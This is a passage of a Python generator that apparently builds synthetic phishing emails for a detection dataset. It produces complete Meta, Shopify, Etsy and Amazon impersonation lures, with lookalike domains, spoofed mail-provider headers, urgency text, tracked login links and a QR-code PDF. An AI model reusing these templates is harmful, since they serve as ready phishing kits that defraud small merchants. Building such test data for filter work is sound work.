             "gmail.com", dkim=[("google.com", "20230601", "pass"), ("gmail.com", "20230601", "pass")], p="none",
             sp="quarantine")
    link = f"https://meta-ads-account-review.web.app/verify?acc=act_{num(seed + 'acc', 16)}"
    subject = ("Invitation: Meta Ads Account Review - Mandatory @ Thu Jan 23, 2025 10am - 10:30am (EST) "
               "(jess@northboundsocial.com)")
    uid = f"{tok(seed + 'uid', 26, LOW)}@google.com"
    desc_txt = ("Your Meta ad account has been flagged for a mandatory compliance review following reports of "
                "policy violations. To avoid permanent suspension of the ad account and the linked Business "
                f"Manager, complete the verification before the meeting: {link}   Meta Business Support")
    plain = f"""Meta Ads Account Review - Mandatory
Thursday Jan 23, 2025 ⋅ 10am – 10:30am
Eastern Time - New York

{desc_txt}

Organizer
Meta Ads Review Team
{org}

Guests
jess@northboundsocial.com

View all guest info https://calendar.google.com/calendar/event?action=VIEW&eid={tok(seed + 'eid', 60, ALNUM)}

Reply for jess@northboundsocial.com
Yes https://calendar.google.com/calendar/event?action=RESPOND&eid={tok(seed + 'eid', 60, ALNUM)}&rst=1
No https://calendar.google.com/calendar/event?action=RESPOND&eid={tok(seed + 'eid', 60, ALNUM)}&rst=2
Maybe https://calendar.google.com/calendar/event?action=RESPOND&eid={tok(seed + 'eid', 60, ALNUM)}&rst=3

Invitation from Google Calendar: https://calendar.google.com/calendar/

You are receiving this email because you are an attendee on the event. To stop receiving future updates
for this event, decline this event.
"""
    html = f"""<span itemscope itemtype="http://schema.org/InformAction"><span style="display:none" itemprop="about" itemscope itemtype="http://schema.org/Person"><meta itemprop="description" content="Invitation from Meta Ads Review Team"/></span></span>
<div style="font-family:Roboto,Helvetica,Arial,sans-serif;max-width:600px;">
<table cellpadding="0" cellspacing="0" style="width:100%;border:1px solid #dadce0;border-radius:8px;"><tr><td style="padding:24px;">
<h2 style="font-size:22px;font-weight:400;color:#3c4043;margin:0 0 12px;">Meta Ads Account Review - Mandatory</h2>
<div style="font-size:14px;color:#3c4043;">Thursday Jan 23, 2025 &#8901; 10am &ndash; 10:30am<br>Eastern Time - New York</div>
<div style="font-size:14px;color:#3c4043;padding:16px 0;line-height:20px;">{desc_txt.replace(link, f'<a href="{link}">{link}</a>')}</div>
<div style="font-size:14px;color:#3c4043;"><b>Organizer</b><br>Meta Ads Review Team<br><span style="color:#70757a;">{org}</span></div>
<div style="font-size:14px;color:#3c4043;padding-top:12px;"><b>Guests</b><br>jess@northboundsocial.com</div>
<div style="padding-top:20px;"><a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={tok(seed + 'eid', 60, ALNUM)}&amp;rst=1" style="border:1px solid #dadce0;border-radius:16px;padding:6px 14px;color:#3c4043;text-decoration:none;">Yes</a> <a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={tok(seed + 'eid', 60, ALNUM)}&amp;rst=2" style="border:1px solid #dadce0;border-radius:16px;padding:6px 14px;color:#3c4043;text-decoration:none;">No</a> <a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={tok(seed + 'eid', 60, ALNUM)}&amp;rst=3" style="border:1px solid #dadce0;border-radius:16px;padding:6px 14px;color:#3c4043;text-decoration:none;">Maybe</a></div>
</td></tr></table>
<p style="font-size:12px;color:#70757a;">Invitation from <a href="https://calendar.google.com/calendar/">Google Calendar</a><br>You are receiving this email because you are an attendee on the event.</p></div>
"""
    ics_desc = desc_txt.replace(",", "\\,")
    folded = []
    line = "DESCRIPTION:" + ics_desc
    while len(line) > 74:
        folded.append(line[:74])
        line = " " + line[74:]
    folded.append(line)
    ics = "\r\n".join([
        "BEGIN:VCALENDAR", "PRODID:-//Google Inc//Google Calendar 70.9054//EN", "VERSION:2.0", "CALSCALE:GREGORIAN",
        "METHOD:REQUEST", "BEGIN:VEVENT", "DTSTART:20250123T150000Z", "DTEND:20250123T153000Z",
        f"DTSTAMP:{sent.strftime('%Y%m%dT%H%M%SZ')}", f"ORGANIZER;CN=Meta Ads Review Team:mailto:{org}", f"UID:{uid}",
        "ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=",
        " TRUE;CN=jess@northboundsocial.com;X-NUM-GUESTS=0:mailto:jess@northboundsoc",
        " ial.com", f"ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;RSVP=TRUE",
        f" ;CN=Meta Ads Review Team;X-NUM-GUESTS=0:mailto:{org}",
        f"CREATED:{ago(sent, 60).strftime('%Y%m%dT%H%M%SZ')}",
    ] + folded + [
        f"LAST-MODIFIED:{sent.strftime('%Y%m%dT%H%M%SZ')}", "LOCATION:", "SEQUENCE:0", "STATUS:CONFIRMED",
        "SUMMARY:Meta Ads Account Review - Mandatory", "TRANSP:OPAQUE", "BEGIN:VALARM", "ACTION:DISPLAY",
        "DESCRIPTION:This is an event reminder", "TRIGGER:-P0DT0H30M0S", "END:VALARM", "END:VEVENT",
        "END:VCALENDAR", ""]).encode()
    body = Multi("mixed", bnd_gmail(seed + "m"), [
        Multi("alternative", bnd_gmail(seed + "a"), [
            text(plain, "plain", "quoted-printable"),
            text(html, "html", "quoted-printable"),
            Leaf("text/calendar", ics, "base64", '; charset="UTF-8"; method=REQUEST'),
        ]),
        Leaf("application/ics", ics, "base64", '; name="invite.ics"', 'attachment; filename="invite.ics"'),
    ])
    own = [
        dkim("google.com", "20230601", seed + "1", sent, "mime-version:reply-to:sender:auto-submitted:message-id:date"
             ":subject:from\n\t :to:content-type", x=604800),
        dkim("gmail.com", "20230601", seed + "2", sent, "to:from:subject:date:message-id:auto-submitted:sender"
             ":reply-to\n\t :mime-version", x=604800),
        f"X-Google-Smtp-Source: AGHT+I{tok(seed + 'gss', 70, B64)}==",
        f"X-Received: by 2002:a05:6214:{_hx(seed + 'a', 4)}:b0:{_hx(seed + 'b', 3)}:{_hx(seed + 'c', 4)} with SMTP id "
        f"{tok(seed + 'd', 16, LOW)}-{tok(seed + 'e', 8, LOW)}.{num(seed + 'f', 2)}.{epoch(sent)}{num(seed + 'g', 3)};\n"
        f"        {dt(sent, 'pacific', True)}",
        "MIME-Version: 1.0",
        f"Reply-To: Meta Ads Review Team <{org}>",
        "Sender: Google Calendar <calendar-notification@google.com>",
        "Auto-Submitted: auto-generated",
        f"Message-ID: <calendar-{tok(seed + 'cm', 8, HEX)}-{tok(seed + 'cm2', 4, HEX)}-{tok(seed + 'cm3', 4, HEX)}-"
        f"{tok(seed + 'cm4', 4, HEX)}-{tok(seed + 'cm5', 12, HEX)}@google.com>",
        f"Date: {dt(sent)}",
        f"Subject: {subject}",
        f"From: Meta Ads Review Team <{org}>",
        "To: jess@northboundsocial.com",
    ]
    return mail("north", "jess@northboundsocial.com", "2025-01-22 17:03:11", a, seed, own, body)


def sg_click(seed: str, acct: str) -> str:
    return (f"https://u{acct}.ct.sendgrid.net/ls/click?upn=u001.{tok(seed + 'u1', 60, ALNUM + '-')}"
            f"-2B{tok(seed + 'u2', 40, ALNUM)}-3D-3D{tok(seed + 'u3', 4, ALNUM)}_{tok(seed + 'u4', 70, ALNUM + '-')}")


@entry("b37-phish-shopify-payout-hold", "phish", "phishing",
       "'Shopify Payments' payout-hold notice from lookalike shopify-merchantsupport.com sent through SendGrid; "
       "tracked button leads to a fake Shopify admin login")
def p_shopify_payout():
    seed = "p8"
    t = utc("2025-01-08 14:27:40")
    sent = ago(t, 2)
    dom = "shopify-merchantsupport.com"
    acct = "38291745"
    a = Auth("149.72.123.44", f"o1.ptr4411.{dom}", f"bounces+{acct}-{tok(seed + 'b', 4, HEX)}-maya=lunaandfern.com@em8821.{dom}",
             dom, dkim=[(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], dmarc=None)
    click = sg_click(seed, acct)
    subject = "Action required: your payouts are on hold"
    plain = f"""Shopify Payments

Your payouts are on hold

Hi Luna & Fern Candle Co.,

As part of our regular account reviews, we need to confirm some information about your business. Until
this review is complete, payouts to your bank account have been paused. Your pending balance is
$4,812.60 USD.

To release your payouts, log in to your Shopify admin and confirm your business and banking details.
If we don't receive the information within 3 business days, your Shopify Payments account may be
deactivated and pending funds held for up to 120 days.

Review account ( {click} )

Thanks,
The Shopify Payments team

Shopify Inc., 151 O'Connor Street, Ground floor, Ottawa, ON K2P 2L8, Canada
"""
    html = f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Your payouts are on hold</title></head>
<body style="margin:0;background:#f1f1f1;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:-apple-system,BlinkMacSystemFont,'Segoe UI',Roboto,Helvetica,Arial,sans-serif;"><tr><td align="center" style="padding:32px 0;">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:12px;">
<tr><td style="padding:28px 36px 0;"><img src="https://cdn.shopify.com/shopifycloud/brochure/assets/brand-assets/shopify-logo-primary-logo-456baa801ee66a0a435671082365958316831c9960c480451dd0330bcdae304f.svg" width="110" alt="Shopify"></td></tr>
<tr><td style="padding:22px 36px 0;font-size:22px;font-weight:600;color:#202223;">Your payouts are on hold</td></tr>
<tr><td style="padding:14px 36px;font-size:15px;line-height:23px;color:#202223;">
<p>Hi Luna &amp; Fern Candle Co.,</p>
<p>As part of our regular account reviews, we need to confirm some information about your business. Until this review is complete, payouts to your bank account have been paused. Your pending balance is <b>$4,812.60 USD</b>.</p>
<p>To release your payouts, log in to your Shopify admin and confirm your business and banking details. If we don't receive the information within <b>3 business days</b>, your Shopify Payments account may be deactivated and pending funds held for up to 120 days.</p>
<p style="padding:10px 0;"><a href="{click}" style="background:#008060;color:#ffffff;text-decoration:none;padding:13px 26px;border-radius:6px;font-weight:600;display:inline-block;">Review account</a></p>
<p>Thanks,<br>The Shopify Payments team</p></td></tr>
<tr><td style="padding:18px 36px 28px;font-size:12px;color:#6d7175;border-top:1px solid #e1e3e5;">Shopify Inc., 151 O'Connor Street, Ground floor, Ottawa, ON K2P 2L8, Canada</td></tr>
</table></td></tr></table>
<img src="https://u{acct}.ct.sendgrid.net/wf/open?upn=u001.{tok(seed + 'op', 80, ALNUM + '-')}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;border-width:0 !important;margin:0 !important;padding:0 !important;" /></body></html>
"""
    own = [
        dkim(dom, "s1", seed + "1", sent, "content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from"
             "\n\t:subject:to", c="relaxed/relaxed"),
        dkim("sendgrid.info", "smtpapi", seed + "2", sent, "content-type:from:mime-version:subject:x-feedback-id:to:cc"
             ":content-type:from\n\t:subject:to"),
        f"Received: by recvd-{tok(seed + 'rv', 10, LOW)}-{tok(seed + 'rv2', 5, LOW)} with SMTP id recvd-{tok(seed + 'rv3', 22, ALNUM)}\n"
        f"\tWed, 08 Jan 2025 14:27:38.{num(seed + 'ms', 3)} +0000 (UTC)",
        f"Received: from {acct} (unknown)\n\tby geopod-ismtpd-{num(seed + 'gp', 2)} (SG) with HTTP\n\tid {tok(seed + 'id', 22, ALNUM + '_-')}\n"
        f"\tWed, 08 Jan 2025 14:27:38.{num(seed + 'ms2', 3)} +0000 (UTC)",
        "Content-Type: multipart/alternative; boundary=PLACEHOLDER",
        f"Date: {dt(sent)}",
        f"From: Shopify Payments <payments@{dom}>",
        "Mime-Version: 1.0",
        f"Message-ID: {mid_sendgrid(seed)}",
        f"Subject: {subject}",
        f"X-Feedback-ID: {acct}:SG",
        f"X-SG-EID: u001.{tok(seed + 'eid', 100, ALNUM + '/+')}",
        f"X-SG-ID: u001.SdBcvi+Evd/bQef8eZF3BsdLXeGb{tok(seed + 'sgid', 70, ALNUM + '/+')}",
        "To: maya@lunaandfern.com",
        "X-Entity-ID: u001." + tok(seed + "ent", 22, ALNUM + "/+") + "==",
    ]
    own = [x for x in own if not x.startswith("Content-Type")]
    return mail("luna", "maya@lunaandfern.com", "2025-01-08 14:27:40", a, seed, own, alt(plain, html, bnd_hex(seed, 64)))


@entry("b37-phish-shopify-trademark-brevo-es", "phish", "phishing",
       "Spanish 'Shopify Legal' trademark-infringement notice (store to be closed in 48 h) from a lookalike domain "
       "sent via Brevo; tracked link redirects to a Cloudflare Pages fake Shopify login")
def p_shopify_trademark():
    seed = "p9"
    t = utc("2025-05-27 19:12:03")
    sent = ago(t, 3)
    dom = "shopify-cumplimiento-legal.com"
    a = Auth("77.32.148.22", "mail148-22.brevosend.com",
             f"bounces-{num(seed + 'b', 7)}-{tok(seed + 'bb', 8, HEX)}=tiendaquetzal.mx@smtp-relay.mailin.fr", dom,
             dkim=[(dom, "brevo1", "pass"), ("smtp-relay.mailin.fr", "mail", "pass")], dmarc="pass", p="none")
    tr = (f"https://{tok(seed + 'h', 8, LOW)}.r.af.d.sendibt2.com/tr/cl/{tok(seed + 'cl', 64, ALNUM + '-_')}"
          f"{tok(seed + 'cl2', 40, ALNUM + '-_')}")
    subject = "Aviso de infracción de marca registrada - Tu tienda será cerrada en 48 horas"
    plain = f"""Shopify

Aviso de infracción de marca registrada

Hola, Tienda Quetzal:

Recibimos una reclamación de un titular de derechos que afirma que algunos productos de tu tienda
(tiendaquetzal.mx) utilizan su marca registrada sin autorización. De acuerdo con nuestra Política de
Uso Aceptable, tu tienda será cerrada en un plazo de 48 horas si no presentas una contranotificación.

Presentar contranotificación: {tr}

Número de caso: TM-2025-884173

Atentamente,
Equipo Legal de Shopify

Shopify International Limited, Victoria Buildings, 2º piso, 1-2 Haddington Road, Dublín 4, D04 XN32, Irlanda
Darse de baja: https://{tok(seed + 'h', 8, LOW)}.r.af.d.sendibt2.com/tr/un/{tok(seed + 'un', 40, ALNUM + '-_')}
"""
    html = f"""<!DOCTYPE html><html lang="es"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#f6f6f7;">
<table role="presentation" width="100%" cellspacing="0" cellpadding="0" border="0"><tr><td align="center" style="padding:30px 10px;">
<table role="presentation" width="580" cellspacing="0" cellpadding="0" border="0" style="background:#ffffff;border-radius:8px;font-family:Helvetica,Arial,sans-serif;">
<tr><td style="padding:26px 34px 0;font-size:24px;font-weight:bold;color:#008060;">shopify</td></tr>
<tr><td style="padding:20px 34px 0;font-size:20px;font-weight:bold;color:#202223;">Aviso de infracción de marca registrada</td></tr>
<tr><td style="padding:14px 34px;font-size:15px;line-height:22px;color:#202223;">
<p>Hola, Tienda Quetzal:</p>
<p>Recibimos una reclamación de un titular de derechos que afirma que algunos productos de tu tienda (<b>tiendaquetzal.mx</b>) utilizan su marca registrada sin autorización. De acuerdo con nuestra Política de Uso Aceptable, tu tienda será <b>cerrada en un plazo de 48 horas</b> si no presentas una contranotificación.</p>
<p style="padding:8px 0;"><a href="{tr}" style="background:#008060;color:#fff;padding:12px 24px;border-radius:5px;text-decoration:none;font-weight:bold;">Presentar contranotificación</a></p>
<p style="color:#6d7175;font-size:13px;">Número de caso: TM-2025-884173</p>
<p>Atentamente,<br>Equipo Legal de Shopify</p></td></tr>
<tr><td style="padding:16px 34px 26px;font-size:11px;color:#8c9196;border-top:1px solid #e1e3e5;">Shopify International Limited, Victoria Buildings, 2º piso, 1-2 Haddington Road, Dublín 4, D04 XN32, Irlanda<br><a href="https://{tok(seed + 'h', 8, LOW)}.r.af.d.sendibt2.com/tr/un/{tok(seed + 'un', 40, ALNUM + '-_')}" style="color:#8c9196;">Darse de baja</a></td></tr>
</table></td></tr></table>
<img width="1" height="1" src="https://{tok(seed + 'h', 8, LOW)}.r.af.d.sendibt2.com/tr/op/{tok(seed + 'op', 60, ALNUM + '-_')}" alt=""/></body></html>
"""
    own = [
        dkim("smtp-relay.mailin.fr", "mail", seed + "2", sent, "Subject:From:To:Date:MIME-Version:Content-Type:Message-Id"),
        dkim(dom, "brevo1", seed + "1", sent, "Subject:From:To:Date:MIME-Version:Content-Type:Message-Id:List-Unsubscribe"),
        f"Received: by smtp-relay.sendinblue.com with ESMTP id {tok(seed + 'r', 12, UHEX)}\n\tfor <ventas@tiendaquetzal.mx>; {dt(ago(sent, 1))}",
        f"Message-Id: <{sent.strftime('%Y%m%d%H%M')}.{num(seed + 'mi', 11)}@smtp-relay.mailin.fr>",
        f"Date: {dt(sent)}",
        f"Subject: {enc(subject)}",
        f"From: Shopify Legal <legal@{dom}>",
        "To: ventas@tiendaquetzal.mx",
        "MIME-Version: 1.0",
        "X-Mailer: Sendinblue",
        f"X-Mailin-EID: {tok(seed + 'eid', 40, ALNUM)}%3Aventas%40tiendaquetzal.mx%3Ac%3Aw",
        f"List-Unsubscribe: <https://{tok(seed + 'h', 8, LOW)}.r.af.d.sendibt2.com/tr/un/{tok(seed + 'un', 40, ALNUM + '-_')}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"Feedback-ID: {num(seed + 'fid', 7)}:{num(seed + 'fid2', 6)}:Sendinblue",
    ]
    return mail("quetzal", "ventas@tiendaquetzal.mx", "2025-05-27 19:12:03", a, seed, own,
                alt(plain, html, f"----=_Part_{num(seed + 'p', 7)}_{num(seed + 'p2', 9)}.{epoch(sent)}000"))


@entry("b37-phish-shopify-kyc-qr-pdf-es", "phish", "phishing",
       "Spanish 'Shopify Payments' KYC request from a lookalike domain with a PDF whose only call to action is a QR "
       "code to a phone-only identity/credential page (QR kept out of the mail body)")
def p_shopify_kyc_qr():
    seed = "p10"
    t = utc("2025-11-04 10:45:30")
    sent = ago(t, 2)
    dom = "shopify-verificacion-kyc.com"
    a = Auth("193.143.1.77", "vps-1-77.hostvds.net", f"no-reply@{dom}", dom, helo=f"mail.{dom}",
             dkim=[(dom, "mail", "pass")], dmarc=None)
    target = f"https://m.{dom}/kyc/?s=casaolivo&t={tok(seed + 't', 16, ALNUM)}"
    pdfdata = qr_pdf(target, [
        "Shopify Payments - Verificacion de identidad (KYC)",
        "",
        "Tienda: Casa Olivo (casaolivo.es)",
        "Referencia: KYC-ES-20251104-4471",
        "",
        "Conforme a la Directiva (UE) 2015/849 debemos verificar la identidad del titular",
        "de la cuenta de Shopify Payments. Hasta completar la verificacion, los pagos",
        "a su cuenta bancaria quedan en pausa.",
        "",
        "Escanee el codigo QR con la camara de su telefono movil para completar el",
        "proceso en menos de 5 minutos. Plazo: 72 horas.",
    ], "Shopify Payments KYC")
    subject = "Shopify Payments: verificación de identidad pendiente (KYC-ES-20251104-4471)"
    plain = """Hola,

Tu cuenta de Shopify Payments requiere una verificación de identidad (KYC). Hasta que se complete, los
pagos a tu cuenta bancaria quedan en pausa.

Encontrarás las instrucciones en el documento adjunto. El proceso se realiza desde tu teléfono móvil y
dura menos de 5 minutos.

Plazo: 72 horas.

Equipo de Shopify Payments
"""
    html = """<div style="font-family:Arial,sans-serif;font-size:14px;color:#202223;line-height:21px;">
<p>Hola,</p>
<p>Tu cuenta de <b>Shopify Payments</b> requiere una verificación de identidad (KYC). Hasta que se complete, los pagos a tu cuenta bancaria quedan en pausa.</p>
<p>Encontrarás las instrucciones en el documento adjunto. El proceso se realiza desde tu teléfono móvil y dura menos de 5 minutos.</p>
<p><b>Plazo: 72 horas.</b></p>
<p>Equipo de Shopify Payments</p></div>
"""
    body = mixed(bnd_php(seed + "m"), alt(plain, html, bnd_php(seed + "a")),
                 attachment("application/pdf", "Shopify_Payments_Verificacion_KYC.pdf", pdfdata))
    own = [
        dkim(dom, "mail", seed, sent, "Content-Type:MIME-Version:Message-ID:Subject:From:To:Date", c="relaxed/simple"),
        f"Received: from [127.0.0.1] (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id "
        f"{tok(seed + 'q', 10, UHEX)}\n\tfor <hola@casaolivo.es>; {dt(ago(sent, 1), 'cet')}",
        f"Date: {dt(sent, 'cet')}",
        "To: hola@casaolivo.es",
        f"From: Shopify Payments <no-reply@{dom}>",
        f"Subject: {enc(subject)}",
        f"Message-ID: <{tok(seed + 'pm', 32, ALNUM)}@{dom}>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ]
    return mail("olivo", "hola@casaolivo.es", "2025-11-04 10:45:30", a, seed, own, body)


@entry("b37-phish-etsy-buyer-paid-confirm", "phish", "phishing",
       "'Etsy' says a buyer paid GBP 165 but funds stay held until the seller 'confirms' Etsy Payments on a lookalike "
       "domain sent via Mailgun; the page asks for card details and login (classic Etsy seller scam)")
def p_etsy_paid():
    seed = "p11"
    t = utc("2024-09-12 20:18:44")
    sent = ago(t, 2)
    dom = "etsy-payments-seller.com"
    a = Auth("159.135.228.12", "m228-12.mailgun.net",
             f"bounce+{tok(seed + 'b', 6, HEX)}.{tok(seed + 'b2', 6, HEX)}-sam=kestrelandco.co.uk@mg.{dom}", dom,
             dkim=[(dom, "pic", "pass")], dmarc=None)
    url = f"https://www.{dom}/your/orders/3412987754/confirm?ref=eml_{tok(seed + 'r', 10, LOW)}"
    subject = "Your buyer has paid for order #3412987754 - confirm to receive your funds"
    plain = f"""Etsy

Hi Sam,

Good news! Your buyer emma_rowland84 has paid £165.00 for the following order:

  Speckled Stoneware Dinner Set (4 place settings) x1
  Order #3412987754

The payment is currently held by Etsy Payments. Because this is the first order paid to this shop
through our new payment system, you need to confirm your Etsy Payments details before the funds can
be released to your account.

Confirm and receive funds: {url}

Please do not dispatch the item until the payment has been released.

Etsy Payments
Etsy Ireland UC, One Le Pole Square, Ship Street Great, Dublin 8, Ireland
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#fdfaf6;font-family:Graphik Webfont,-apple-system,Helvetica Neue,Helvetica,Arial,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0;">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border:1px solid #e1e3df;">
<tr><td style="padding:22px 30px;"><span style="font-family:Guardian-EgypTT,Georgia,serif;font-size:30px;color:#f1641e;">Etsy</span></td></tr>
<tr><td style="padding:0 30px;font-size:16px;line-height:24px;color:#222222;">
<p>Hi Sam,</p>
<p>Good news! Your buyer <b>emma_rowland84</b> has paid <b>&pound;165.00</b> for the following order:</p>
<table width="100%" style="border:1px solid #e1e3df;border-radius:6px;"><tr><td style="padding:12px;font-size:14px;">Speckled Stoneware Dinner Set (4 place settings) &times;1<br><span style="color:#595959;">Order #3412987754</span></td></tr></table>
<p>The payment is currently held by Etsy Payments. Because this is the first order paid to this shop through our new payment system, you need to confirm your Etsy Payments details before the funds can be released to your account.</p>
<p style="text-align:center;padding:6px 0;"><a href="{url}" style="background:#222222;color:#ffffff;border-radius:24px;padding:12px 28px;text-decoration:none;font-weight:bold;">Confirm and receive funds</a></p>
<p style="font-size:14px;color:#595959;">Please do not dispatch the item until the payment has been released.</p>
<p>Etsy Payments</p></td></tr>
<tr><td style="padding:18px 30px;font-size:12px;color:#757575;background:#f5f5f1;">Etsy Ireland UC, One Le Pole Square, Ship Street Great, Dublin 8, Ireland</td></tr>
</table></td></tr></table></body></html>
"""
    own = [
        dkim(dom, "pic", seed, sent, "Content-Type: Mime-Version: Subject: From: To: X-Feedback-Id: Sender"),
        f"X-Mailgun-Sid: W{tok(seed + 'sid', 40, ALNUM)}",
        f"Received: by {tok(seed + 'mg', 12, HEX)} with HTTP id {tok(seed + 'mgid', 24, HEX)}; {dt(ago(sent, 1))}",
        f"X-Mailgun-Sending-Ip: 159.135.228.12",
        f"X-Mailgun-Batch-Id: {tok(seed + 'batch', 24, HEX)}",
        "Content-Type: x",
        "Mime-Version: 1.0",
        f"Subject: {subject}",
        f"From: Etsy <transaction@{dom}>",
        "To: sam@kestrelandco.co.uk",
        f"X-Feedback-Id: {tok(seed + 'fb', 24, HEX)}:mailgun",
        f"Sender: transaction@{dom}",
        f"Message-Id: <{sent.strftime('%Y%m%d%H%M%S')}.{tok(seed + 'mid', 16, HEX)}@{dom}>",
        f"Date: {dt(sent)}",
    ]
    own = [x for x in own if x != "Content-Type: x"]
    return mail("kestrel", "sam@kestrelandco.co.uk", "2024-09-12 20:18:44", a, seed, own,
                alt(plain, html, tok(seed + "bd", 32, HEX)))


@entry("b37-phish-etsy-suspension-outlookcom", "phish", "phishing",
       "Free outlook.com sender calling itself 'Etsy Support Team' tells a Gmail-based maker her shop is suspended "
       "for an identity check; link to a Vercel-hosted Etsy sign-in clone")
def p_etsy_suspension():
    seed = "p12"
    t = utc("2025-07-15 02:48:19")
    sent = ago(t, 3)
    sender = "etsy.integrity.review@outlook.com"
    a = Auth("52.103.32.52", "mail-northeuropeazolkn19012052.outbound.protection.outlook.com", sender, "outlook.com",
             helo="DU2PR04CU009.outbound.protection.outlook.com", dkim=[("outlook.com", "selector1", "pass")],
             p="none")
    url = "https://etsy-shop-reinstatement.vercel.app/signin?shop=MapleAndMossStudio"
    subject = "Your Etsy shop has been suspended - identity verification required"
    plain = f"""Hello MapleAndMossStudio,

Your Etsy shop has been temporarily suspended because we were unable to verify the identity of the
shop owner. While your shop is suspended, your listings are not visible and payments to your account
are on hold.

To restore your shop, please sign in and complete the verification within 48 hours:
{url}

If we do not receive the verification, your shop will be permanently closed in accordance with the
Etsy Seller Policy.

Kind regards,
Etsy Support Team
Marketplace Integrity
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style type="text/css" style="display:none;"> P {{margin-top:0;margin-bottom:0;}} </style></head>
<body dir="ltr"><div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<p><span style="font-size:20pt;color:#F1641E;font-family:Georgia,serif;">Etsy</span></p><br>
<p>Hello MapleAndMossStudio,</p><br>
<p>Your Etsy shop has been <b>temporarily suspended</b> because we were unable to verify the identity of the shop owner. While your shop is suspended, your listings are not visible and payments to your account are on hold.</p><br>
<p>To restore your shop, please sign in and complete the verification within 48 hours:</p>
<p><a href="{url}" id="OWA{tok(seed + 'owa', 8, HEX)}-{tok(seed + 'owa2', 4, HEX)}" class="OWAAutoLink">Restore my shop</a></p><br>
<p>If we do not receive the verification, your shop will be permanently closed in accordance with the Etsy Seller Policy.</p><br>
<p>Kind regards,<br>Etsy Support Team<br>Marketplace Integrity</p></div></body></html>
"""
    own = outlook_own(seed, sent, "utc", f"Etsy Support Team <{sender}>", "mapleandmoss.studio@gmail.com", subject,
                      "outlook.com", site="eur")
    own = [x for x in own if not x.startswith(("Thread-Topic", "Thread-Index"))]
    return mail("maple", "mapleandmoss.studio@gmail.com", "2025-07-15 02:48:19", a, seed, own,
                alt(plain, html, bnd_outlook(seed, "eur")))


@entry("b37-phish-amazon-seller-deactivation-ses", "phish", "phishing",
       "'Amazon Seller Performance' deactivation notice sent through Amazon SES from lookalike "
       "sellercentral-appeal-notice.com (SPF/DKIM pass for SES and the lookalike); 'plan of action' link is a "
       "Seller Central sign-in + OTP phishing page")
def p_amazon_deactivation():
    seed = "p13"
    t = utc("2024-11-21 13:55:02")
    sent = ago(t, 2)
    dom = "sellercentral-appeal-notice.com"
    envf = mid_ses(seed)[1:].split("@")[0] + "@amazonses.com"
    a = Auth("54.240.8.35", "a8-35.smtp-out.amazonses.com", envf, dom,
             dkim=[(dom, tok(seed + "s", 32, LOW), "pass"), ("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", "pass")],
             dmarc=None)
    url = (f"https://{dom}/ap/signin?openid.return_to=https%3A%2F%2Fsellercentral.amazon.com%2Fperformance%2F"
           f"account%2Fhealth&case={num(seed + 'c', 11)}")
    subject = "Your Amazon selling privileges have been deactivated"
    plain = f"""Hello,

We have deactivated your Amazon selling privileges and placed a temporary hold on any funds in your
account because one or more items you listed may be counterfeit.

Luna & Fern Candle Co. (Merchant Token: A2{tok(seed + 'mt', 12, UPPER + DIG)})
ASIN: B0C{tok(seed + 'asin', 7, UPPER + DIG)} - Soy Wax Candle, Cedar & Fig, 8 oz

How do I reactivate my account?
Send us a plan of action that explains:
- The root cause of the issue that led to the complaint.
- The actions you have taken to resolve the issue.
- The steps you have taken to prevent this issue in the future.

You have 17 days to submit your plan of action. After that, your account will be permanently
deactivated and funds in your account will not be released.

Submit a plan of action: {url}

Sincerely,
Seller Performance Team
Amazon.com
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#111111;">
<table width="640" cellpadding="0" cellspacing="0"><tr><td style="padding:10px 0 16px;border-bottom:3px solid #ff9900;"><b style="font-size:20px;">amazon</b> <span style="color:#555;">seller central</span></td></tr>
<tr><td style="padding-top:16px;line-height:19px;">
<p>Hello,</p>
<p>We have deactivated your Amazon selling privileges and placed a temporary hold on any funds in your account because one or more items you listed may be counterfeit.</p>
<p>Luna &amp; Fern Candle Co. (Merchant Token: A2{tok(seed + 'mt', 12, UPPER + DIG)})<br>ASIN: B0C{tok(seed + 'asin', 7, UPPER + DIG)} - Soy Wax Candle, Cedar &amp; Fig, 8 oz</p>
<p><b>How do I reactivate my account?</b><br>Send us a plan of action that explains:</p>
<ul><li>The root cause of the issue that led to the complaint.</li><li>The actions you have taken to resolve the issue.</li><li>The steps you have taken to prevent this issue in the future.</li></ul>
<p>You have <b>17 days</b> to submit your plan of action. After that, your account will be permanently deactivated and funds in your account will not be released.</p>
<p><a href="{url}" style="background:#f0c14b;border:1px solid #a88734;color:#111;padding:7px 16px;text-decoration:none;border-radius:3px;">Submit a plan of action</a></p>
